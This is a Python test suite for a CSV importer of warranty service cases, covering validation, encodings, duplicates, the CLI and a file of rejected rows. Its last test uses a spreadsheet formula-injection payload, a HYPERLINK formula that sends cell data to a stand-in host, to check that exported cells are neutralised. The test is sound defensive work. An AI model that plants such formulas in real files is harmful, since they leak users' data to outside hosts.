"""CSV import of the Case Admin's list: row outcomes, formats, file-level errors and the CLI."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.exc import DataError

from fieldapp.domain.case_flow import Flow, Origin, Status
from fieldapp.domain.deadlines import LIMA_TZ
from fieldapp.domain.geo import Zone
from fieldapp.domain.roles import Role
from fieldapp.extensions import db
from fieldapp.infra import csv_files
from fieldapp.models import AuditEvent, Case, Customer, Store, Unit
from fieldapp.services.cases import csv_format, csv_import, intake
from fieldapp.services.cases.csv_import import Outcome
from tests import factories

SAMPLE = Path(__file__).parent.parent / "data" / "cases_sample.csv"
# The sample is an export of 20/11/2026: the rules (warranty, "not in the future") are judged then.
NOW = datetime(2026, 11, 20, 17, 0, tzinfo=LIMA_TZ)
GOOD_ROWS = list(range(2, 13))
HEADER = (
    "case_number,service_number,purchase_date,failure_date,received_at,customer_name,"
    "customer_ubigeo"
)


@pytest.fixture(autouse=True)
def _programme(app):
    factories.programme()


def run(source, actor=None):
    report = csv_import.import_cases(source, actor, now=NOW)
    db.session.commit()
    return report


def by_row(report):
    return {r.row: r for r in report.rows}


def case(number: str) -> Case:
    return db.session.scalar(select(Case).where(Case.case_number == number))


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def lima(y, m, d, hh=23, mm=59, ss=59) -> datetime:
    return datetime(y, m, d, hh, mm, ss, tzinfo=LIMA_TZ)


def test_sample_good_rows_are_stored_with_their_flow_and_deadlines():
    admin = factories.user(Role.DISPATCHER)
    report = run(SAMPLE.read_bytes(), admin)

    assert report.file_error is None
    rows = by_row(report)
    assert sorted(rows) == list(range(2, 18))  # the trailing ";;;;" row of Excel is skipped
    assert [n for n, r in rows.items() if r.outcome is Outcome.IMPORTED] == GOOD_ROWS
    assert report.summary == "importados 11, duplicados 1, rechazados 4"
    assert rows[2].case_number == "KCC-2026-0110451"
    assert (rows[2].flow, rows[2].status) == (Flow.DOA_LIMA, Status.RECEIVED)

    doa_lima = case("KCC-2026-0110451")
    assert doa_lima.zone is Zone.LIMA and doa_lima.unit.service_number == "T481203"
    assert doa_lima.received_at == lima(2026, 11, 16, 9, 12, 0)
    assert [(d.name, d.due_at) for d in doa_lima.deadlines] == [("swap", lima(2026, 11, 17))]
    assert doa_lima.created_by_user_id == admin.id
    assert doa_lima.customer.email == "maria.flores@correo.pe"
    assert doa_lima.proof_type == "boleta" and doa_lima.proof_number == "B001-004512"

    # Callao and Arequipa lost their leading zero in Excel (70101, 40101).
    callao = case("KCC-2026-0110477")
    assert (callao.ubigeo, callao.customer.ubigeo, callao.flow) == (
        "070101",
        "070101",
        Flow.DOA_LIMA,
    )
    arequipa = case("KCC-2026-0110483")
    assert (arequipa.ubigeo, arequipa.flow, arequipa.distance_band) == (
        "040101",
        Flow.DOA_PROVINCES,
        3,
    )
    assert [(d.name, d.due_at) for d in arequipa.deadlines] == [("swap", lima(2026, 11, 20))]

    trujillo = case("KCC-2026-0110490")
    assert (trujillo.flow, trujillo.distance_band) == (Flow.WARRANTY_PROVINCES, 2)
    assert [(d.name, d.due_at) for d in trujillo.deadlines] == [("pickup", lima(2026, 11, 20))]
    canete = case("KCC-2026-0110552")
    assert [(d.name, d.due_at) for d in canete.deadlines] == [("pickup", lima(2026, 11, 21))]

    warranty_lima = case("KCC-2026-0110460")
    assert (warranty_lima.flow, warranty_lima.deadlines) == (Flow.WARRANTY_LIMA, [])
    assert case("KCC-2026-0110502").flow is Flow.WARRANTY_PROVINCES  # "impresora" = printer

    store = case("KCC-2026-0110515")
    assert (store.origin, store.flow) == (Origin.STORE, Flow.DOA_STORE)
    assert (store.store.name, store.store.ubigeo) == ("Tiendas Efe Piura", "200101")
    assert [(d.name, d.due_at) for d in store.deadlines] == [("swap", lima(2026, 11, 22))]

    created = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "created")).all()
    assert len(created) == 11


def test_bad_rows_are_rejected_with_every_reason_and_leave_nothing_behind():
    rows = by_row(run(SAMPLE.read_bytes()))

    assert rows[13].outcome is Outcome.REJECTED
    assert set(rows[13].errors) == {"purchase_date", "service_number"}
    assert "31/02/2026" in rows[13].errors["purchase_date"][0]
    assert "una letra seguida de 6 dígitos" in rows[13].errors["service_number"][0]
    assert "G&N DIGITAL" in rows[14].errors["product_type"][0]
    assert "Fuera de garantía" in rows[15].errors["failure_date"][0]
    assert rows[16].errors == {
        "customer_email": ["Correo electrónico no válido."],
        "customer_ubigeo": ["No existe un distrito con el código UBIGEO 159999."],
    }
    assert "UBIGEO del cliente (customer_ubigeo): No existe un distrito" in rows[16].reasons[1]

    # Row 17 is another case for row 3's unit, which is still open.
    assert rows[17].outcome is Outcome.DUPLICATE
    assert rows[17].duplicate_of == "service_number"
    assert rows[17].message == "El equipo C350877 ya tiene un caso abierto (KCC-2026-0110460)."

    assert count(Case) == 11
    stored_units = set(db.session.scalars(select(Unit.service_number)))
    assert stored_units.isdisjoint({"T470331", "C354122", "T485567"})
    names = set(db.session.scalars(select(Customer.name)))
    assert "Sofía León Vargas" not in names and "Diego Salazar Núñez" not in names


def test_reimporting_the_same_file_imports_nothing_twice():
    run(SAMPLE.read_bytes())
    before = (count(Case), count(Unit), count(Customer), count(Store), count(AuditEvent))

    again = by_row(run(SAMPLE.read_bytes()))

    assert [n for n, r in again.items() if r.outcome is Outcome.DUPLICATE] == [*GOOD_ROWS, 17]
    assert again[2].duplicate_of == "case_number"
    assert again[2].message == "El caso KCC-2026-0110451 ya fue registrado."
    assert all(again[n].outcome is Outcome.REJECTED for n in (13, 14, 15, 16))
    assert (count(Case), count(Unit), count(Customer), count(Store), count(AuditEvent)) == before


def test_a_row_failing_while_stored_is_undone_alone(monkeypatch):
    real_record = intake.audit.record

    def record(action, **kwargs):
        if db.session.get(Case, kwargs["entity_id"]).case_number == "B-2":
            raise DataError("INSERT", {}, Exception("value too long"))
        return real_record(action, **kwargs)

    monkeypatch.setattr(intake.audit, "record", record)
    text = "\n".join(
        [
            "case_number,service_number,purchase_date,customer_name,customer_ubigeo",
            "B-1,T100001,2026-10-01,Ana Uno,150122",
            "B-2,T100002,2026-10-01,Beto Dos,150122",
            "B-3,T100003,2026-10-01,Carla Tres,150122",
        ]
    )
    rows = by_row(run(text))

    assert [rows[n].outcome for n in (2, 3, 4)] == [
        Outcome.IMPORTED,
        Outcome.REJECTED,
        Outcome.IMPORTED,
    ]
    assert rows[3].reasons == ["La base de datos rechazó un valor de la fila."]
    assert set(db.session.scalars(select(Case.case_number))) == {"B-1", "B-3"}
    assert set(db.session.scalars(select(Unit.service_number))) == {"T100001", "T100003"}
    assert "Beto Dos" not in set(db.session.scalars(select(Customer.name)))


@pytest.mark.parametrize(
    ("separator", "bom", "newline"),
    [(",", False, "\n"), (";", True, "\r\n"), (";", False, "\n"), ("\t", False, "\r\n")],
)
def test_separator_bom_and_line_ends_are_understood(separator, bom, newline):
    lines = [
        HEADER,
        "S-1,T200001,2026-10-01,,,Ana Uno,150122",
        '"S-2",C200002,01/10/2026,,,"Quispe, Beto",040101',
    ]
    text = newline.join(line.replace(",", separator) for line in lines)
    if separator != ",":  # the quoted name keeps its comma
        text = text.replace(f"Quispe{separator} Beto", "Quispe, Beto")
    raw = (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8")

    report = run(raw)

    assert report.file_error is None
    assert [r.outcome for r in report.rows] == [Outcome.IMPORTED, Outcome.IMPORTED]
    assert case("S-2").customer.name == "Quispe, Beto"
    assert case("S-2").purchase_date == date(2026, 10, 1)


def test_dates_in_both_formats_and_received_at_in_lima_time():
    text = "\n".join(
        [
            HEADER,
            "D-1,T300001,15/10/2026,18/11/2026,19/11/2026 08:30,Ana Uno,150122",
            "D-2,T300002,2026-10-15,2026-11-18,2026-11-19T08:30:00-05:00,Beto Dos,150122",
            "D-3,T300003,5/9/2026,18/11/2026 00:00,2026-11-19 13:30:00+00:00,Carla Tres,150122",
            "D-4,T300004,2026-10-15,,,Dora Cuatro,150122",
        ]
    )
    report = run(text)

    assert [r.outcome for r in report.rows] == [Outcome.IMPORTED] * 4
    for number in ("D-1", "D-2", "D-3"):
        found = case(number)
        assert found.received_at == datetime(2026, 11, 19, 13, 30, tzinfo=UTC), number
        assert found.failure_date == date(2026, 11, 18)
    assert case("D-1").purchase_date == date(2026, 10, 15)
    assert case("D-3").purchase_date == date(2026, 9, 5)
    # No received_at: the import's moment; no failure date: the received date.
    assert case("D-4").received_at == NOW
    assert case("D-4").failure_date == date(2026, 11, 20)


def test_unparsable_values_are_named_with_their_column():
    text = "\n".join(
        [
            HEADER + ",origin,customer_phone,model",
            "E-1,T400001,2026-13-01,ayer,19/11/2026,Ana Uno,150122,fax,12,ESP",
            "E-2,T400002,2026-10-01,,2026-11-19,,150122,tienda,,ESP",
            "E-3,T400003,2026-10-01,,,Carla Tres,150122,,," + "M" * 61,
            "E-4,T400004,2026-10-01,,,Dora Cuatro,150122,,,,sobra",
        ]
    )
    rows = by_row(run(text))

    assert set(rows[2].errors) == {
        "purchase_date",
        "failure_date",
        "received_at",
        "origin",
        "customer_phone",
    }
    assert "DD/MM/AAAA HH:MM" in rows[2].errors["received_at"][0]
    assert "call_center, store o st_counter" in rows[2].errors["origin"][0]
    # A date alone is not a reception time; a store case needs its store; the name is required.
    assert "received_at" in rows[3].errors
    assert rows[3].errors["store_name"] == [
        "Indique la tienda cuando el caso se registró en una tienda."
    ]
    assert rows[3].errors["customer_name"] == ["Ingrese el nombre del cliente."]
    assert rows[4].errors == {"model": ["Máximo 60 caracteres."]}
    assert rows[5].reasons == ["La fila tiene más columnas que el encabezado (1 de más)."]
    assert rows[4].reasons == ["Modelo (model): Máximo 60 caracteres."]
    assert count(Case) == 0


def test_missing_or_unknown_headers_refuse_the_whole_file():
    text = "case_number;service_number;fecha_compra;customer_name\nH-1;T500001;2026-10-01;Ana\n"

    report = run(text)

    assert report.rows == []
    assert (
        "faltan columnas obligatorias: Fecha de compra (purchase_date), "
        "UBIGEO del cliente (customer_ubigeo)" in report.file_error
    )
    assert "columnas desconocidas: fecha_compra" in report.file_error
    assert count(Case) == 0


def test_headers_are_matched_loosely_and_blank_header_cells_ignored():
    text = "Case Number;SERVICE-NUMBER;purchase_date;customer_name;customer_ubigeo;;\n"
    text += "L-1;T600001;01/10/2026;Ana Uno;150122;;\n"
    assert [r.outcome for r in run(text).rows] == [Outcome.IMPORTED]


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"", "falta la fila de encabezados"),
        (HEADER.encode() + b"\r\n,,,,,,\r\n", "no tiene filas de casos"),
        (HEADER.encode() + b"\nC-1,T1,2026-10-01,,,Pe\x81a,150122", "ni en Windows-1252"),
        (b"PK\x03\x04rest-of-a-workbook", "libro de Excel"),
    ],
)
def test_files_that_cannot_be_read_are_refused_with_a_reason(raw, message):
    report = run(raw)
    assert report.rows == [] and message in report.file_error


def test_row_and_size_limits(monkeypatch):
    rows = [HEADER] + [f"R-{i},T70000{i},2026-10-01,,,Ana,150122" for i in range(4)]
    monkeypatch.setattr(csv_format, "MAX_ROWS", 3)
    report = run("\n".join(rows))
    assert report.file_error == (
        "El archivo tiene 4 filas; el máximo es 3: divídalo en archivos más pequeños."
    )
    monkeypatch.setattr(csv_format, "MAX_ROWS", 5000)
    monkeypatch.setattr(csv_format, "MAX_BYTES", 100)
    assert "supera el máximo" in run("\n".join(rows)).file_error
    assert count(Case) == 0


def test_no_active_programme_is_a_file_error():
    factories.programme().active = False
    db.session.commit()
    report = run(SAMPLE.read_bytes())
    assert report.file_error == "No hay un programa de garantía activo configurado."


# The CLI ---------------------------------------------------------------------------------


@pytest.fixture
def frozen(monkeypatch):
    monkeypatch.setattr(csv_import, "utcnow", lambda: NOW)


def test_cli_prints_each_row_and_the_summary(runner, frozen):
    result = runner.invoke(args=["import-cases", str(SAMPLE)])

    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "fila 2: importado KCC-2026-0110451 (DOA Lima, Recibido)"
    assert "fila 8: importado KCC-2026-0110515 (DOA en tienda, Recibido)" in lines
    assert any(
        line.startswith(
            "fila 15: rechazado KCC-2026-0110589: Fecha de falla (failure_date): Fuera de garantía"
        )
        for line in lines
    )
    assert (
        "fila 17: duplicado KCC-2026-0110604: El equipo C350877 ya tiene un caso abierto "
        "(KCC-2026-0110460)." in lines
    )
    assert lines[-1] == "importados 11, duplicados 1, rechazados 4"
    db.session.expire_all()
    assert count(Case) == 11

    again = runner.invoke(args=["import-cases", str(SAMPLE)])
    assert again.exit_code == 0
    assert "fila 2: duplicado KCC-2026-0110451: El caso KCC-2026-0110451 ya fue registrado." in (
        again.output
    )
    assert again.output.splitlines()[-1] == "importados 0, duplicados 12, rechazados 4"


def test_cli_records_the_user_and_refuses_an_unknown_one(runner, frozen):
    user = factories.user(Role.SUPERVISOR, username="jefa")
    result = runner.invoke(args=["import-cases", str(SAMPLE), "--user", "jefa"])
    assert result.exit_code == 0, result.output
    assert case("KCC-2026-0110451").created_by_user_id == user.id

    result = runner.invoke(args=["import-cases", str(SAMPLE), "--user", "nadie"])
    assert result.exit_code == 1
    assert "No existe el usuario nadie." in result.output


def test_cli_file_error_exits_non_zero_and_stores_nothing(runner, frozen, tmp_path):
    bad = tmp_path / "casos.csv"
    bad.write_text("case_number;service_number\nX-1;T123456\n", encoding="utf-8")

    result = runner.invoke(args=["import-cases", str(bad)])

    assert result.exit_code == 1
    assert (
        "Encabezados no válidos (faltan columnas obligatorias: Fecha de compra (purchase_date)"
        in result.output
    )
    assert "importados" not in result.output
    assert count(Case) == 0


def test_excel_windows_1252_file_is_converted_and_the_report_says_so():
    text = HEADER + "\nW-1,T800001,2026-10-01,,,José Peña Ñahui,150122\n"
    report = run(text.encode("cp1252"))  # Excel's "CSV (delimitado por comas)" in Spanish
    assert [r.outcome for r in report.rows] == [Outcome.IMPORTED]
    assert case("W-1").customer.name == "José Peña Ñahui"
    assert "Windows-1252" in report.encoding_note and "se convirtió a UTF-8" in report.encoding_note
    assert run(HEADER + "\nW-2,T800002,2026-10-01,,,Ana,150122\n").encoding_note is None


def test_excel_unicode_text_file_is_converted():
    text = HEADER.replace(",", "\t") + "\nU-1\tT800003\t2026-10-01\t\t\tÁngela Muñoz\t150122\n"
    report = run(text.encode("utf-16"))
    assert [r.outcome for r in report.rows] == [Outcome.IMPORTED]
    assert case("U-1").customer.name == "Ángela Muñoz" and "UTF-16" in report.encoding_note


def test_rejected_rows_file_keeps_the_columns_says_why_and_imports_once_fixed():
    text = "\n".join(
        [
            HEADER.replace(",", ";"),
            "F-1;T810001;2026-10-01;;;Ana Uno;150122",
            "F-2;X1;2026-10-01;;;Beto Dos;150122",
            "F-3;T810003;2026-10-01;;;Ciro Tres;159999",
        ]
    )
    report = run(text)
    body = csv_import.rejected_file(report)
    assert body.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 with a BOM
    lines = body.decode("utf-8-sig").splitlines()
    assert lines[0] == HEADER.replace(",", ";") + ";errores"
    assert lines[1].startswith("F-2;X1;2026-10-01;;;Beto Dos;150122;")
    assert "Número de servicio (service_number): El número de servicio" in lines[1]
    assert lines[2].startswith("F-3;T810003;")
    assert "UBIGEO del cliente (customer_ubigeo): No existe un distrito" in lines[2]
    assert len(lines) == 3

    fixed = body.decode("utf-8-sig").replace(";X1;", ";T810002;").replace(";159999;", ";150101;")
    again = run(fixed.encode("utf-8-sig"))  # the errores column is ignored
    assert [r.outcome for r in again.rows] == [Outcome.IMPORTED, Outcome.IMPORTED]
    assert count(Case) == 3


def test_the_template_has_every_column_and_imports_once_filled():
    body = csv_format.template_file().decode("utf-8-sig")
    assert body == ",".join(c.name for c in csv_format.COLUMNS) + "\r\n"
    row = {c.name: "" for c in csv_format.COLUMNS}
    row.update(
        case_number="P-1",
        service_number="T820001",
        purchase_date="01/10/2026",
        customer_name="Ana",
        customer_ubigeo="150122",
    )
    report = run(body + ",".join(row.values()) + "\r\n")
    assert [r.outcome for r in report.rows] == [Outcome.IMPORTED]


def test_rejected_rows_file_writes_the_users_cells_as_text_never_as_formulas():
    evil = '=HYPERLINK("http://x.example/?"&A1,"ver")'
    quoted = '"' + evil.replace('"', '""') + '"'
    text = "\n".join(
        [
            HEADER + ",customer_phone",
            f"F-1,X1,2026-10-01,,,{quoted},150122,+51 987 654 321",
            "F-2,T810002,2026-10-01,,,@SUM(A1),159999,-",
        ]
    )
    report = run(text)
    body = csv_import.rejected_file(report).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(body)))
    assert lines[1][5] == "'" + evil and lines[1][7] == "'+51 987 654 321"
    assert lines[2][5] == "'@SUM(A1)" and lines[2][7] == "'-"
    assert all(not cell.startswith(csv_files.FORMULA_START) for line in lines for cell in line)

    # Uploaded again once fixed, the quoted cells read as the user wrote them.
    fixed = body.replace(",X1,", ",T810001,").replace(",159999,", ",150101,").replace(",'-,", ",,")
    again = run(fixed.encode("utf-8-sig"))
    assert [r.outcome for r in again.rows] == [Outcome.IMPORTED, Outcome.IMPORTED]
    assert case("F-1").customer.name == evil and case("F-1").customer.phone == "+51 987 654 321"
    assert case("F-2").customer.name == "@SUM(A1)"
